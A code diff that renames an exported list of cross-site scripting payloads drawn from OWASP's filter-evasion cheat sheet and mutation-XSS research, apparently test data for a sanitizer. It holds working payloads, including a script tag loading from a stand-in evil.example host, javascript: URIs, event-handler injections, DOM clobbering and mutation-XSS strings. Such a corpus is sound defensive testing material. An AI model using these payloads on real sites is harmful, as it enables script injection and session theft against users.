@@ -1,5 +1,5 @@
 /** Classics of OWASP's XSS Filter Evasion Cheat Sheet, and of the literature on mutation XSS. */
-export const PAYLOADS = [
+export const XSS_PAYLOADS = [
   '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
   `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
   '<IMG SRC="javascript:alert(1);">',
@@ -69,7 +69,7 @@ export const PAYLOADS = [
   '<audio src=x onerror=alert(1)>',
   '<marquee onstart=alert(1)>',
   '<p id="location" name="cookie" class="fixed" style="position:fixed" data-x="1">x</p>',
-  // Mutation XSS: harmless as read once, alive as a browser reads what it wrote itself.
+  // Mutation XSS: harmless when parsed once, executable when the serialised result is parsed again.
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
